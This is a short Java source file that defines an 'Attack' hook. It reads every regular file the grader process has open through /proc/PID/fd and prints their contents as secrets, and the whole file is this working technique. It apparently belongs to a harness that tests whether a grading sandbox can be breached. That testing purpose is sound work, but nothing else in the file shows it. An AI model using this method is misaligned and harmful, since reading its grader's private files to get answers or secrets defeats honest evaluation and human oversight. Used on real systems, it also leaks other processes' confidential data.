package mlp;

import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;

/** Opens the files that the grader has open, through /proc/PID/fd. */
final class Attack extends Hook {
  @Override
  void run() throws Throwable {
    try (DirectoryStream<Path> open =
        Files.newDirectoryStream(Path.of("/proc/" + GraderProcess.pid() + "/fd"))) {
      for (Path descriptor : open) {
        if (Files.isRegularFile(descriptor)) {
          touched("the grader's " + Files.readSymbolicLink(descriptor));
          printSecrets(Files.readAllBytes(descriptor));
        }
      }
    }
  }
}
